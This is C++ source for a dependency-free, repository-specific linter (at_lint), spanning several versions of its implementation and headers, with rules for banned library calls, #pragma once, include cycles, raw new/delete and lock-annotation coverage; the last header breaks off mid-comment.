std::vector<Violation> run_all(const std::vector<SourceFile>& files, const Allowlist& allow) {
  RunOptions opts;
  opts.allow = &allow;
  return run(files, opts).violations;
}

std::vector<HeaderTu> generate_header_tus(const std::vector<SourceFile>& files) {
  std::vector<HeaderTu> out;
  for (const auto& file : files) {
    const std::string_view path = file.path;
    if (path.rfind("src/", 0) != 0 || path.size() < 4 ||
        path.substr(path.size() - 4) != ".hpp") {
      continue;
    }
    const std::string rel(path.substr(4));
    std::string name = "tu_" + rel.substr(0, rel.size() - 4) + ".cpp";
    std::replace(name.begin(), name.end(), '/', '_');
    HeaderTu tu;
    tu.name = std::move(name);
    tu.content = "// generated by at_lint --write-header-tus; compiling this TU proves\n"
                 "// the header is self-contained (includes what it uses).\n"
                 "#include \"" +
                 rel + "\"\n";
    out.push_back(std::move(tu));
  }
  std::sort(out.begin(), out.end(),
            [](const HeaderTu& a, const HeaderTu& b) { return a.name < b.name; });
  return out;
}

}  // namespace at::lint
