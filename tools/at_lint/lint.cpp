#include "at_lint/lint.hpp"

#include <algorithm>
#include <array>
#include <cctype>
#include <functional>
#include <tuple>
#include <unordered_map>
#include <unordered_set>

namespace at::lint {

namespace {

bool ident_char(char c) noexcept {
  return std::isalnum(static_cast<unsigned char>(c)) != 0 || c == '_';
}

std::string_view trim(std::string_view text) {
  while (!text.empty() && std::isspace(static_cast<unsigned char>(text.front()))) {
    text.remove_prefix(1);
  }
  while (!text.empty() && std::isspace(static_cast<unsigned char>(text.back()))) {
    text.remove_suffix(1);
  }
  return text;
}

std::vector<std::string_view> split_lines(std::string_view text) {
  std::vector<std::string_view> lines;
  std::size_t start = 0;
  while (start <= text.size()) {
    std::size_t end = text.find('\n', start);
    if (end == std::string_view::npos) end = text.size();
    lines.push_back(text.substr(start, end - start));
    if (end == text.size()) break;
    start = end + 1;
  }
  return lines;
}

/// 1-based line number of byte offset `pos`.
std::size_t line_of(std::string_view text, std::size_t pos) {
  return 1 + static_cast<std::size_t>(std::count(text.begin(), text.begin() + static_cast<std::ptrdiff_t>(std::min(pos, text.size())), '\n'));
}

/// The trimmed source line containing byte offset `pos` of `raw`.
std::string excerpt_at(std::string_view raw, std::size_t pos) {
  pos = std::min(pos, raw.size());
  std::size_t begin = raw.rfind('\n', pos == 0 ? 0 : pos - 1);
  begin = begin == std::string_view::npos ? 0 : begin + 1;
  std::size_t end = raw.find('\n', pos);
  if (end == std::string_view::npos) end = raw.size();
  return std::string(trim(raw.substr(begin, end - begin)));
}

/// True when `text[pos..]` starts the identifier `token` with identifier
/// boundaries on both sides.
bool token_at(std::string_view text, std::size_t pos, std::string_view token) {
  if (pos + token.size() > text.size()) return false;
  if (text.compare(pos, token.size(), token) != 0) return false;
  if (pos > 0 && ident_char(text[pos - 1])) return false;
  const std::size_t after = pos + token.size();
  return after >= text.size() || !ident_char(text[after]);
}

std::size_t skip_ws(std::string_view text, std::size_t pos) {
  while (pos < text.size() && std::isspace(static_cast<unsigned char>(text[pos]))) ++pos;
  return pos;
}

/// Last non-whitespace byte strictly before `pos`, or '\0'.
char prev_nonspace(std::string_view text, std::size_t pos) {
  while (pos > 0) {
    --pos;
    if (!std::isspace(static_cast<unsigned char>(text[pos]))) return text[pos];
  }
  return '\0';
}

bool starts_with(std::string_view text, std::string_view prefix) {
  return text.size() >= prefix.size() && text.compare(0, prefix.size(), prefix) == 0;
}

bool ends_with(std::string_view text, std::string_view suffix) {
  return text.size() >= suffix.size() &&
         text.compare(text.size() - suffix.size(), suffix.size(), suffix) == 0;
}

Violation make_violation(std::string rule, const SourceFile& file, std::size_t pos,
                         std::string message) {
  Violation v;
  v.rule = std::move(rule);
  v.file = file.path;
  v.line = line_of(file.content, pos);
  v.message = std::move(message);
  v.excerpt = excerpt_at(file.content, pos);
  return v;
}

}  // namespace

std::string strip_code(std::string_view source) {
  std::string out(source);
  enum class State { kNormal, kLine, kBlock, kString, kChar, kRaw };
  State state = State::kNormal;
  std::string raw_delim;  // for R"delim( ... )delim"
  for (std::size_t i = 0; i < source.size(); ++i) {
    const char c = source[i];
    const char next = i + 1 < source.size() ? source[i + 1] : '\0';
    switch (state) {
      case State::kNormal:
        if (c == '/' && next == '/') {
          state = State::kLine;
          out[i] = ' ';
        } else if (c == '/' && next == '*') {
          state = State::kBlock;
          out[i] = ' ';
        } else if (c == 'R' && next == '"' && (i == 0 || !ident_char(source[i - 1]))) {
          // Raw string: R"delim( ... )delim"
          std::size_t p = i + 2;
          raw_delim.clear();
          while (p < source.size() && source[p] != '(') raw_delim += source[p++];
          raw_delim = ")" + raw_delim + "\"";
          out[i] = ' ';
          state = State::kRaw;
        } else if (c == '"') {
          state = State::kString;
          out[i] = ' ';
        } else if (c == '\'' && (i == 0 || !ident_char(source[i - 1]))) {
          state = State::kChar;
          out[i] = ' ';
        }
        break;
      case State::kLine:
        if (c == '\n') {
          state = State::kNormal;
        } else {
          out[i] = ' ';
        }
        break;
      case State::kBlock:
        if (c == '*' && next == '/') {
          out[i] = ' ';
          out[i + 1] = ' ';
          ++i;
          state = State::kNormal;
        } else if (c != '\n') {
          out[i] = ' ';
        }
        break;
      case State::kString:
        if (c == '\\' && next != '\0') {
          out[i] = ' ';
          if (next != '\n') out[i + 1] = ' ';
          ++i;
        } else if (c == '"') {
          out[i] = ' ';
          state = State::kNormal;
        } else if (c != '\n') {
          out[i] = ' ';
        }
        break;
      case State::kChar:
        if (c == '\\' && next != '\0') {
          out[i] = ' ';
          if (next != '\n') out[i + 1] = ' ';
          ++i;
        } else if (c == '\'') {
          out[i] = ' ';
          state = State::kNormal;
        } else if (c != '\n') {
          out[i] = ' ';
        }
        break;
      case State::kRaw:
        if (source.compare(i, raw_delim.size(), raw_delim) == 0) {
          for (std::size_t k = 0; k < raw_delim.size(); ++k) out[i + k] = ' ';
          i += raw_delim.size() - 1;
          state = State::kNormal;
        } else if (c != '\n') {
          out[i] = ' ';
        }
        break;
    }
  }
  return out;
}

std::vector<Violation> check_banned_calls(const std::vector<SourceFile>& files) {
  std::vector<Violation> out;
  static constexpr std::array<std::string_view, 3> kBanned = {"rand", "strtok", "gmtime"};
  static constexpr std::array<std::string_view, 8> kSto = {
      "stoi", "stol", "stoll", "stoul", "stoull", "stof", "stod", "stold"};
  for (const auto& file : files) {
    if (!starts_with(file.path, "src/")) continue;
    const std::string stripped = strip_code(file.content);
    // Brace-matched try tracking: a std::sto* call is fine inside a try
    // block (its throw is the error path); naked calls are the bug class
    // this rule exists for (see params_io/report fixes in PR 2).
    std::vector<char> block_is_try;
    std::size_t try_depth = 0;
    bool pending_try = false;
    for (std::size_t i = 0; i < stripped.size(); ++i) {
      const char c = stripped[i];
      if (c == '{') {
        block_is_try.push_back(pending_try ? 1 : 0);
        if (pending_try) ++try_depth;
        pending_try = false;
        continue;
      }
      if (c == '}') {
        if (!block_is_try.empty()) {
          if (block_is_try.back() != 0) --try_depth;
          block_is_try.pop_back();
        }
        continue;
      }
      if (!ident_char(c) || (i > 0 && ident_char(stripped[i - 1]))) continue;
      // At the start of an identifier.
      if (token_at(stripped, i, "try")) {
        pending_try = true;
        continue;
      }
      const auto called = [&](std::string_view name) {
        return token_at(stripped, i, name) &&
               skip_ws(stripped, i + name.size()) < stripped.size() &&
               stripped[skip_ws(stripped, i + name.size())] == '(';
      };
      for (const auto name : kBanned) {
        if (called(name)) {
          out.push_back(make_violation(
              "banned-call", file, i,
              std::string(name) + "() is banned in src/ (non-reentrant or non-deterministic; "
                                  "use util::Rng / util::strings / util::time_utils)"));
        }
      }
      if (starts_with(file.path, "src/fg/") && called("exp")) {
        out.push_back(make_violation(
            "banned-call", file, i,
            "raw exp() in the fg hot path; use fg::CompiledParams pre-exponentiated "
            "tables or util::logdomain"));
      }
      for (const auto name : kSto) {
        if (called(name) && try_depth == 0) {
          out.push_back(make_violation(
              "banned-call", file, i,
              "std::" + std::string(name) + " outside try: malformed input escapes as an "
                                            "uncaught exception; use util::parse_num"));
        }
      }
    }
  }
  return out;
}

std::vector<Violation> check_pragma_once(const std::vector<SourceFile>& files) {
  std::vector<Violation> out;
  for (const auto& file : files) {
    if (!ends_with(file.path, ".hpp")) continue;
    const std::string stripped = strip_code(file.content);
    const auto lines = split_lines(stripped);
    for (std::size_t i = 0; i < lines.size(); ++i) {
      const auto line = trim(lines[i]);
      if (line.empty()) continue;
      if (!starts_with(line, "#pragma") || line.find("once") == std::string_view::npos) {
        Violation v;
        v.rule = "pragma-once";
        v.file = file.path;
        v.line = i + 1;
        v.message = "header does not start with #pragma once";
        v.excerpt = std::string(line);
        out.push_back(std::move(v));
      }
      break;  // only the first non-blank code line matters
    }
  }
  return out;
}

std::vector<Violation> check_include_cycles(const std::vector<SourceFile>& files) {
  std::vector<Violation> out;
  std::unordered_map<std::string, std::size_t> index;
  for (std::size_t i = 0; i < files.size(); ++i) index.emplace(files[i].path, i);

  const auto resolve = [&](const std::string& includer,
                           const std::string& inc) -> std::ptrdiff_t {
    // Quoted includes are rooted at the module root (src/, tools/, ...),
    // matching the CMake include dirs; fall back to includer-relative.
    static constexpr std::array<std::string_view, 5> kRoots = {"src/", "tools/", "bench/",
                                                               "tests/", ""};
    for (const auto root : kRoots) {
      const auto it = index.find(std::string(root) + inc);
      if (it != index.end()) return static_cast<std::ptrdiff_t>(it->second);
    }
    const std::size_t slash = includer.rfind('/');
    if (slash != std::string::npos) {
      const auto it = index.find(includer.substr(0, slash + 1) + inc);
      if (it != index.end()) return static_cast<std::ptrdiff_t>(it->second);
    }
    return -1;  // system / third-party header: not part of the graph
  };

  std::vector<std::vector<std::size_t>> adj(files.size());
  for (std::size_t i = 0; i < files.size(); ++i) {
    for (const auto line : split_lines(files[i].content)) {
      const auto t = trim(line);
      if (!starts_with(t, "#include")) continue;
      const std::size_t open = t.find('"');
      if (open == std::string_view::npos) continue;  // <...> includes are external
      const std::size_t close = t.find('"', open + 1);
      if (close == std::string_view::npos) continue;
      const auto target = resolve(files[i].path, std::string(t.substr(open + 1, close - open - 1)));
      if (target >= 0) adj[i].push_back(static_cast<std::size_t>(target));
    }
  }

  // Iterative three-color DFS; report each back edge once as a cycle.
  enum : char { kWhite, kGray, kBlack };
  std::vector<char> color(files.size(), kWhite);
  std::vector<std::size_t> stack_path;
  const std::function<void(std::size_t)> dfs = [&](std::size_t u) {
    color[u] = kGray;
    stack_path.push_back(u);
    for (const std::size_t v : adj[u]) {
      if (color[v] == kWhite) {
        dfs(v);
      } else if (color[v] == kGray) {
        std::string msg = "include cycle: ";
        const auto begin = std::find(stack_path.begin(), stack_path.end(), v);
        for (auto it = begin; it != stack_path.end(); ++it) msg += files[*it].path + " -> ";
        msg += files[v].path;
        Violation viol;
        viol.rule = "include-cycle";
        viol.file = files[u].path;
        viol.line = 1;
        viol.message = std::move(msg);
        viol.excerpt = files[v].path;
        out.push_back(std::move(viol));
      }
    }
    stack_path.pop_back();
    color[u] = kBlack;
  };
  for (std::size_t i = 0; i < files.size(); ++i) {
    if (color[i] == kWhite) dfs(i);
  }
  return out;
}

std::vector<Violation> check_raw_new_delete(const std::vector<SourceFile>& files) {
  std::vector<Violation> out;
  for (const auto& file : files) {
    if (!starts_with(file.path, "src/") || starts_with(file.path, "src/util/")) continue;
    const std::string stripped = strip_code(file.content);
    for (std::size_t i = 0; i < stripped.size(); ++i) {
      if (!ident_char(stripped[i]) || (i > 0 && ident_char(stripped[i - 1]))) continue;
      const bool is_new = token_at(stripped, i, "new");
      const bool is_delete = token_at(stripped, i, "delete");
      if (!is_new && !is_delete) continue;
      const char prev = prev_nonspace(stripped, i);
      if (is_delete && prev == '=') continue;  // `= delete;` declaration
      // `operator new` / `operator delete` overloads are declarations.
      std::size_t p = i;
      while (p > 0 && std::isspace(static_cast<unsigned char>(stripped[p - 1]))) --p;
      std::size_t q = p;
      while (q > 0 && ident_char(stripped[q - 1])) --q;
      if (p - q == 8 && stripped.compare(q, 8, "operator") == 0) continue;
      out.push_back(make_violation(
          "raw-new-delete", file, i,
          std::string(is_new ? "new" : "delete") +
              " outside src/util/: own memory via std::unique_ptr/containers"));
    }
  }
  return out;
}

namespace {

/// Mutating member-function suffixes for the guarded-by write heuristic.
bool mutating_method(std::string_view name) {
  static const std::unordered_set<std::string_view> kMethods = {
      "push_back", "emplace_back", "emplace", "pop_back", "pop",    "push",
      "clear",     "insert",       "erase",   "assign",   "resize", "reserve",
      "swap",      "merge",        "extract"};
  return kMethods.contains(name);
}

struct Write {
  std::string name;
  std::size_t pos;
};

/// Member writes (`x_ = ...`, `++x_`, `x_.push_back(...)`, ...) between
/// `begin` and the close of the brace scope containing `begin`.
std::vector<Write> writes_in_scope(std::string_view stripped, std::size_t begin) {
  std::vector<Write> out;
  int depth = 0;
  for (std::size_t i = begin; i < stripped.size(); ++i) {
    const char c = stripped[i];
    if (c == '{') {
      ++depth;
      continue;
    }
    if (c == '}') {
      if (--depth < 0) break;  // left the scope the LockGuard lives in
      continue;
    }
    if (!ident_char(c) || std::isdigit(static_cast<unsigned char>(c)) != 0 ||
        (i > 0 && ident_char(stripped[i - 1]))) {
      continue;
    }
    std::size_t end = i;
    while (end < stripped.size() && ident_char(stripped[end])) ++end;
    if (stripped[end - 1] != '_') {
      i = end - 1;
      continue;
    }
    const std::string name(stripped.substr(i, end - i));
    bool write = false;
    // Prefix increment/decrement.
    const char prev = prev_nonspace(stripped, i);
    if (prev == '+' || prev == '-') {
      const std::size_t p = stripped.rfind(prev == '+' ? "++" : "--", i);
      if (p != std::string::npos && skip_ws(stripped, p + 2) == i) write = true;
    }
    std::size_t after = skip_ws(stripped, end);
    if (!write && after < stripped.size()) {
      const char a = stripped[after];
      const char b = after + 1 < stripped.size() ? stripped[after + 1] : '\0';
      if (a == '=' && b != '=') write = true;
      if ((a == '+' || a == '-' || a == '*' || a == '/' || a == '%' || a == '|' ||
           a == '&' || a == '^') &&
          b == '=') {
        write = true;
      }
      if ((a == '+' && b == '+') || (a == '-' && b == '-')) write = true;
      if (a == '.') {
        std::size_t m = skip_ws(stripped, after + 1);
        std::size_t mend = m;
        while (mend < stripped.size() && ident_char(stripped[mend])) ++mend;
        if (mend > m && mend < stripped.size() &&
            stripped[skip_ws(stripped, mend)] == '(' &&
            mutating_method(stripped.substr(m, mend - m))) {
          write = true;
        }
      }
    }
    if (write) out.push_back({name, i});
    i = end - 1;
  }
  return out;
}

}  // namespace

std::vector<Violation> check_guarded_by(const std::vector<SourceFile>& files) {
  std::vector<Violation> out;
  std::unordered_map<std::string, const SourceFile*> by_path;
  for (const auto& file : files) by_path.emplace(file.path, &file);

  for (const auto& file : files) {
    if (!starts_with(file.path, "src/")) continue;
    const std::string stripped = strip_code(file.content);
    // Candidate declaration homes: this file, plus the sibling header for
    // a .cpp.
    std::vector<const SourceFile*> homes = {&file};
    if (ends_with(file.path, ".cpp")) {
      const std::string sibling = file.path.substr(0, file.path.size() - 4) + ".hpp";
      const auto it = by_path.find(sibling);
      if (it != by_path.end()) homes.push_back(it->second);
    }
    const auto annotated = [&](const std::string& name) -> int {
      // 1 = annotated, 0 = declared without annotation, -1 = not found.
      bool found = false;
      for (const SourceFile* home : homes) {
        for (const auto line : split_lines(home->content)) {
          std::size_t pos = 0;
          bool has_token = false;
          while ((pos = line.find(name, pos)) != std::string_view::npos) {
            const bool lb = pos == 0 || !ident_char(line[pos - 1]);
            const bool rb = pos + name.size() >= line.size() ||
                            !ident_char(line[pos + name.size()]);
            if (lb && rb) {
              has_token = true;
              break;
            }
            ++pos;
          }
          if (!has_token) continue;
          found = true;
          if (line.find("AT_GUARDED_BY") != std::string_view::npos ||
              line.find("AT_NOT_GUARDED") != std::string_view::npos) {
            return 1;
          }
        }
      }
      return found ? 0 : -1;
    };

    std::size_t pos = 0;
    while ((pos = stripped.find("LockGuard", pos)) != std::string_view::npos) {
      if (!token_at(stripped, pos, "LockGuard")) {
        ++pos;
        continue;
      }
      // `LockGuard name(mutex);` — writes between here and the end of the
      // enclosing block happen with `mutex` held.
      std::size_t cursor = skip_ws(stripped, pos + 9);
      std::size_t name_end = cursor;
      while (name_end < stripped.size() && ident_char(stripped[name_end])) ++name_end;
      if (name_end == cursor || stripped[skip_ws(stripped, name_end)] != '(') {
        pos += 9;
        continue;
      }
      for (const auto& write : writes_in_scope(stripped, skip_ws(stripped, name_end))) {
        if (annotated(write.name) == 0) {
          out.push_back(make_violation(
              "guarded-by", file, write.pos,
              write.name + " is written under a held util::LockGuard but its declaration "
                           "has neither AT_GUARDED_BY nor AT_NOT_GUARDED"));
        }
      }
      pos = name_end;
    }
  }
  // A field written under several locks reports once per declaration.
  std::sort(out.begin(), out.end(), [](const Violation& a, const Violation& b) {
    return std::tie(a.file, a.line, a.message) < std::tie(b.file, b.line, b.message);
  });
  out.erase(std::unique(out.begin(), out.end(),
                        [](const Violation& a, const Violation& b) {
                          return a.file == b.file && a.line == b.line &&
                                 a.message == b.message;
                        }),
            out.end());
  return out;
}

std::vector<HeaderTu> generate_header_tus(const std::vector<SourceFile>& files) {
  std::vector<HeaderTu> out;
  for (const auto& file : files) {
    if (!starts_with(file.path, "src/") || !ends_with(file.path, ".hpp")) continue;
    const std::string rel = file.path.substr(4);
    std::string name = "tu_" + rel.substr(0, rel.size() - 4) + ".cpp";
    std::replace(name.begin(), name.end(), '/', '_');
    HeaderTu tu;
    tu.name = std::move(name);
    tu.content = "// generated by at_lint --write-header-tus; compiling this TU proves\n"
                 "// the header is self-contained (includes what it uses).\n"
                 "#include \"" +
                 rel + "\"\n";
    out.push_back(std::move(tu));
  }
  std::sort(out.begin(), out.end(),
            [](const HeaderTu& a, const HeaderTu& b) { return a.name < b.name; });
  return out;
}

Allowlist Allowlist::parse(std::string_view text) {
  Allowlist allow;
  for (const auto raw_line : split_lines(text)) {
    auto line = trim(raw_line);
    if (line.empty() || line.front() == '#') continue;
    AllowEntry entry;
    const auto take_word = [&line]() {
      std::size_t end = 0;
      while (end < line.size() && !std::isspace(static_cast<unsigned char>(line[end]))) ++end;
      const auto word = line.substr(0, end);
      line = trim(line.substr(end));
      return std::string(word);
    };
    entry.rule = take_word();
    entry.file = take_word();
    entry.token = std::string(line);  // rest of line, may contain spaces
    if (!entry.rule.empty() && !entry.file.empty()) allow.entries_.push_back(std::move(entry));
  }
  return allow;
}

bool Allowlist::allows(const Violation& violation) const {
  for (const auto& entry : entries_) {
    if (entry.rule != "*" && entry.rule != violation.rule) continue;
    if (entry.file != "*" && entry.file != violation.file) continue;
    if (!entry.token.empty() && violation.excerpt.find(entry.token) == std::string::npos) {
      continue;
    }
    return true;
  }
  return false;
}

std::vector<Violation> run_all(const std::vector<SourceFile>& files, const Allowlist& allow) {
  std::vector<Violation> all;
  for (auto&& batch : {check_banned_calls(files), check_pragma_once(files),
                       check_include_cycles(files), check_raw_new_delete(files),
                       check_guarded_by(files)}) {
    for (const auto& v : batch) {
      if (!allow.allows(v)) all.push_back(v);
    }
  }
  std::sort(all.begin(), all.end(), [](const Violation& a, const Violation& b) {
    return std::tie(a.file, a.line, a.rule) < std::tie(b.file, b.line, b.rule);
  });
  return all;
}

}  // namespace at::lint
