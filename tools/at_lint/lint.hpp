#pragma once
// at_lint — repo-native invariant checker. A deliberately dependency-free
// (no libclang) line/token-level analyzer that turns the project's written
// conventions into machine-checked rules over src/, tools/, bench/ and
// tests/. It complements, not replaces, Clang -Wthread-safety: the
// compiler checks lock discipline inside one TU; at_lint checks the
// repo-shaped invariants a compiler has no opinion on (banned calls,
// include cycles, annotation coverage, ownership conventions).
//
// Rules (docs/static-analysis.md documents how to add one):
//   banned-call      rand/strtok/gmtime anywhere in src/; std::sto* outside
//                    a try block; raw exp() in src/fg/ hot paths (PR 1
//                    pre-exponentiates instead).
//   pragma-once      every .hpp starts with #pragma once.
//   include-cycle    the quoted-include graph over the scanned files is a
//                    DAG.
//   raw-new-delete   no naked new/delete outside src/util/ (owning types
//                    live behind util/ or std smart pointers).
//   guarded-by       a field written inside a util::LockGuard scope must be
//                    declared with AT_GUARDED_BY (or carry AT_NOT_GUARDED)
//                    in the same file or the sibling header.
//
// Exceptions go in tools/at_lint/allowlist.txt with an in-file
// justification; entries match (rule, file, excerpt-substring).

#include <cstddef>
#include <string>
#include <string_view>
#include <vector>

namespace at::lint {

/// One scanned file. `path` is repo-relative with '/' separators (rules
/// dispatch on prefixes like "src/fg/"); `content` is the raw bytes.
struct SourceFile {
  std::string path;
  std::string content;
};

struct Violation {
  std::string rule;
  std::string file;
  std::size_t line = 0;  ///< 1-based
  std::string message;
  std::string excerpt;  ///< trimmed source line, for allowlist matching
};

/// Allowlist entry: `rule<TAB or spaces>file<TAB or spaces>token...`.
/// Empty token matches any violation of (rule, file); otherwise the
/// violation's excerpt must contain the token. '#' starts a comment.
struct AllowEntry {
  std::string rule;
  std::string file;
  std::string token;
};

class Allowlist {
 public:
  static Allowlist parse(std::string_view text);

  [[nodiscard]] bool allows(const Violation& violation) const;
  [[nodiscard]] std::size_t size() const noexcept { return entries_.size(); }

 private:
  std::vector<AllowEntry> entries_;
};

/// Replace comment and string/char-literal bytes with spaces (newlines
/// preserved), so token rules never fire on prose or literals. Handles //,
/// /* */, "...", '...', and R"...(...)..." raw strings.
[[nodiscard]] std::string strip_code(std::string_view source);

[[nodiscard]] std::vector<Violation> check_banned_calls(const std::vector<SourceFile>& files);
[[nodiscard]] std::vector<Violation> check_pragma_once(const std::vector<SourceFile>& files);
[[nodiscard]] std::vector<Violation> check_include_cycles(const std::vector<SourceFile>& files);
[[nodiscard]] std::vector<Violation> check_raw_new_delete(const std::vector<SourceFile>& files);
[[nodiscard]] std::vector<Violation> check_guarded_by(const std::vector<SourceFile>& files);

/// Header self-containment: one generated TU per src/**.hpp that includes
/// only that header. Compiling them (the CMake `lint` target does) proves
/// every header includes what it uses.
struct HeaderTu {
  std::string name;     ///< e.g. "tu_util_thread_pool.cpp"
  std::string content;  ///< "#include \"util/thread_pool.hpp\"\n"
};
[[nodiscard]] std::vector<HeaderTu> generate_header_tus(const std::vector<SourceFile>& files);

/// Run every rule and drop allowlisted findings.
[[nodiscard]] std::vector<Violation> run_all(const std::vector<SourceFile>& files,
                                             const Allowlist& allow);

}  // namespace at::lint
