#pragma once
// at_lint v4 — repo-native whole-program invariant checker. A dependency-free
// (no libclang) token-level analysis engine that turns the project's written
// conventions into machine-checked rules over src/, tools/, bench/ and
// tests/. It complements, not replaces, Clang -Wthread-safety: the compiler
// checks lock discipline inside one TU; at_lint checks the repo-shaped,
// cross-TU invariants a compiler has no opinion on.
//
// The engine runs in two phases (docs/static-analysis.md has the write-up):
//   phase 1 (parallel, cached)  lex each file and extract FileFacts — the
//     include list, container-typed fields, function definitions with their
//     outgoing calls / lock acquisitions / blocking sites / throw sites /
//     atomic ops, and inline suppressions. Facts serialize into the
//     content-hash cache, so a warm run re-extracts nothing.
//   phase 2 (always runs)  link facts into project-wide symbol, call and
//     lock graphs (link.hpp) and run the cross-TU rules over them.
//
// Files:
//   lexer.hpp    — C++ lexer: comments, literals (incl. raw strings),
//                  line continuations, preprocessor lines → TokenStream.
//   facts.hpp    — phase-1 fact extraction (functions, calls, locks,
//                  blocking/atomic/throw sites, container fields, dataflow
//                  summaries; dataflow.cpp holds the flow extractor).
//   link.hpp     — phase-2 linker: ProjectGraph (call resolution through
//                  include closures, lock summaries, hot reachability,
//                  throw propagation, worklist taint propagation).
//   lint.hpp/cpp — engine: orchestration, inline suppressions, Check
//                  registry, allowlist, incremental-cache plumbing.
//   checks.cpp   — the fifteen rules, each a Check subclass.
//   sarif.hpp    — SARIF 2.1.0 JSON for CI code-scanning annotation.
//   cache.hpp    — content-hash incremental cache, format v4.
//
// Rules:
//   banned-call     rand/strtok/gmtime anywhere in src/; std::sto* outside
//                   a try block; raw exp() in src/fg/ hot paths.
//   pragma-once     every .hpp starts with #pragma once.
//   include-cycle   the quoted-include graph over the scanned files is a DAG.
//   raw-new-delete  no naked new/delete outside src/util/ (placement new
//                   into owned storage is allowed).
//   guarded-by      a field written inside a util::LockGuard scope must be
//                   declared with AT_GUARDED_BY (or AT_NOT_GUARDED).
//   determinism     no iteration over std::unordered_{map,set} feeding an
//                   order-sensitive sink (push_back/stream/float +=) in
//                   src/ (ordered sinks and post-loop sorts are escape
//                   hatches); member fields declared unordered in OTHER
//                   headers are resolved through the project field index;
//                   no std::random_device / system_clock / std::time
//                   outside src/util/rng + src/util/time_utils.
//   lock-order      the util::LockGuard acquisition graph — nested scopes,
//                   AT_ACQUIRED_{BEFORE,AFTER} hints, and acquisitions
//                   propagated through helper calls via call-graph
//                   summaries + AT_ACQUIRES(mu) — is cycle-free.
//   header-hygiene  a src/ file naming a type declared by a project header
//                   it reaches only transitively must include that header
//                   directly (self-containment TUs cover the converse).
//   uninit-member   a constructor must not leave a scalar/pointer field
//                   with no default initializer unassigned.
//   blocking-in-hot-path  functions transitively reachable from an AT_HOT
//                   function or a sim::Engine / shard drain loop must not
//                   sleep, do I/O, malloc, or block on a condition.
//   atomic-order    a relaxed atomic load must not feed a pointer deref or
//                   flag-guarded read of other state (needs acquire), and
//                   atomic ops inside hot-path functions must spell their
//                   memory order explicitly (no silent seq_cst).
//   noexcept-escape a noexcept function, destructor, or ThreadPool task
//                   must not reach a `throw` through the call graph.
//   taint-to-sink   a value from an AT_UNTRUSTED source (Zeek / honeypot /
//                   replay parse entry points) must not reach an allocation
//                   size, array index, file path, or format call without a
//                   bounds check or an AT_SANITIZES hop on the path; the
//                   diagnostic prints the interprocedural taint chain.
//   dangling-view   a string_view/span/reference must not borrow from a
//                   temporary (ternary materialization, substr, concat) or
//                   outlive a container mutation that invalidates it, and a
//                   view-returning function must not return a local buffer.
//   unbounded-growth a member map/vector keyed or grown by tainted data
//                   must carry an eviction path or an AT_BOUNDED annotation
//                   (the daemon's bounded-ring invariant, repo-wide).
//
// Suppressing a finding (both forms need a written justification):
//   - inline: // at_lint: allow(rule[,rule]) — <why>   (same line, or the
//     next code line when the comment stands alone)
//   - tools/at_lint/allowlist.txt: `rule file excerpt-substring` lines.
// --check-stale-allowlist flags entries of EITHER kind that no longer
// suppress anything.

#include <cstddef>
#include <cstdint>
#include <string>
#include <string_view>
#include <vector>

#include "at_lint/lexer.hpp"

namespace at::util {
class ThreadPool;
}

namespace at::lint {

/// One scanned file. `path` is repo-relative with '/' separators (rules
/// dispatch on prefixes like "src/fg/"); `content` is the raw bytes.
struct SourceFile {
  std::string path;
  std::string content;
};

struct Violation {
  std::string rule;
  std::string file;
  std::size_t line = 0;  ///< 1-based
  std::string message;
  std::string excerpt;  ///< trimmed source line, for allowlist matching
  /// 1-based byte column of the offending token; 0 = line-granular finding
  /// (project-wide rules with no single token to point at). Declared last
  /// so positional aggregate initialization stays source-compatible.
  std::size_t column = 0;
};

/// Per-file facts the project-wide checks consume. Extracted once per file
/// (or restored from the incremental cache without re-lexing).
struct FileFacts {
  std::vector<std::string> quoted_includes;  ///< #include "..." as written

  /// `first` held while `second` is acquired (nested LockGuard scopes), or
  /// an AT_ACQUIRED_BEFORE/AFTER hint edge. Mutex names are normalized
  /// argument spellings ("mu_", "shard.mu_").
  struct LockEdge {
    std::string first;
    std::string second;
    std::uint32_t line = 0;
  };
  std::vector<LockEdge> lock_edges;

  /// Type names this file defines (class/struct/enum definitions and
  /// top-level `using X = ...;` aliases). Used by header-hygiene.
  std::vector<std::string> declared_types;

  /// Capitalized identifiers used, with first-use line (header-hygiene).
  struct UsedType {
    std::string name;
    std::uint32_t line = 0;
  };
  std::vector<UsedType> used_types;

  /// Inline suppressions: (rule or "*", target line). `hits` counts the
  /// per-file violations this entry suppressed at analyze time (cached with
  /// the facts); project-phase hits are tallied at run time. An entry with
  /// zero hits from both phases is stale.
  struct Suppression {
    std::string rule;
    std::uint32_t line = 0;
    std::uint32_t hits = 0;
  };
  std::vector<Suppression> suppressions;

  /// Container-typed member-shaped fields (`counts_`), for cross-TU
  /// determinism: a loop in bar.cpp over a field declared in foo.hpp
  /// resolves through the project-wide field index.
  struct ContainerField {
    std::string name;
    char kind = 'u';  ///< 'u' unordered, 'o' ordered, 's' sequence
    std::uint32_t line = 0;
  };
  std::vector<ContainerField> container_fields;

  /// A loop over a member-shaped variable the file could not resolve
  /// locally (not declared here or in the sibling), feeding an
  /// order-sensitive sink with no sort/ordered-sink escape. Phase 2 fires
  /// it when every project declaration of `range_var` is unordered.
  struct PendingLoop {
    std::string range_var;
    std::string sink_var;
    std::string sink_what;
    std::uint32_t line = 0;  ///< sink line (violation anchor)
  };
  std::vector<PendingLoop> pending_loops;

  /// One call site inside a function body. `held` is the stack of lock
  /// expressions held at the call (outermost first); `in_try` means a try
  /// block encloses it (exceptions do not escape the caller).
  struct CallSite {
    std::string name;  ///< last path component ("fn" for ns::fn / obj.fn)
    std::uint32_t line = 0;
    bool in_try = false;
    std::vector<std::string> held;
  };

  /// A call that can block: sleeps, I/O, raw allocation, condition waits.
  /// LockGuard acquisitions are deliberately NOT recorded here — brief
  /// uncontended locking is the design (see docs/static-analysis.md).
  struct BlockingSite {
    std::string category;  ///< "sleep" | "io" | "alloc" | "wait"
    std::string name;
    std::uint32_t line = 0;
  };

  /// One operation on a std::atomic field declared in this file or its
  /// sibling. `order` is the memory_order_* suffix spelled at the call
  /// site ("" = defaulted seq_cst). `deref` = the loaded value is
  /// immediately dereferenced; `guards_other` = the load sits in an if
  /// condition whose body reads a different member (publication pattern).
  struct AtomicOp {
    std::string object;
    std::string op;  ///< "load" | "store" | "fetch_add" | ...
    std::string order;
    std::uint32_t line = 0;
    bool deref = false;
    bool guards_other = false;
  };

  /// One dataflow step in a function's summary: a value whose origin is a
  /// parameter (`from_param` >= 0) or the return value of a named call
  /// (`from_call` non-empty) reaches one destination — a callee argument
